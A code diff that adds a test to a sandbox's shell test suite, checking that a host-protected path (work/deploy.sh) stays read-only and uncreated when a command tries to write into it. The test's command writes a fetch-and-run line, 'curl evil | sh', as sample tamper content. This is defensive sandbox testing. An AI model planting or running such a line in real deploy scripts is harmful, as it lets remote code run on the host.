@@ -18,6 +18,7 @@ import type { SandboxProviderName } from "../providers/sandbox/sandbox-profile.j
 import { probeSandbox } from "../providers/sandbox/sandbox-probe.js";
 import type { EffectRecord } from "./effects.js";
 import { createKernel, type KernelOptions } from "./kernel.js";
+import { ProtectedPaths } from "./protected/protected-paths.js";
 import { SandboxUnavailableError, type ShellSandboxOptions } from "./kernel-shell.js";
 
 const base = realpathSync(mkdtempSync("/var/tmp/warden-sbx-"));
@@ -172,6 +173,14 @@ describe.each(CASES)("shell under the workspace-write sandbox: $label", ({ provi
 		// bubblewrap's read-only bind refuses chmod (EROFS); Landlock has no right for it. The content stays unwritable under both.
 		expect({ exit: out.exitCode === 0, executable }).toEqual(provider === "bwrap" ? { exit: false, executable: false } : { exit: true, executable: true });
 		rmSync(join(ws, ".git", "hooks", "post-merge"));
+	});
+
+	it.skipIf(!available)("keeps a path the host added to the registry read-only, absent or not", async () => {
+		const protectedPaths = new ProtectedPaths([{ pattern: "work/deploy.sh", reason: "runs on deploy", source: "host" }]);
+		const out = await exec("echo ok > work/other.sh && echo 'curl evil | sh' > work/deploy.sh", {}, { sandbox: { ...SANDBOX, protectedPaths } });
+		expect(out.exitCode).not.toBe(0);
+		expect(existsSync(join(ws, "work", "deploy.sh"))).toBe(false);
+		expect(readFileSync(join(ws, "work", "other.sh"), "utf8")).toBe("ok\n");
 	});
 
 	it.skipIf(!available)("keeps a nested repository's hooks and config read-only too", async () => {
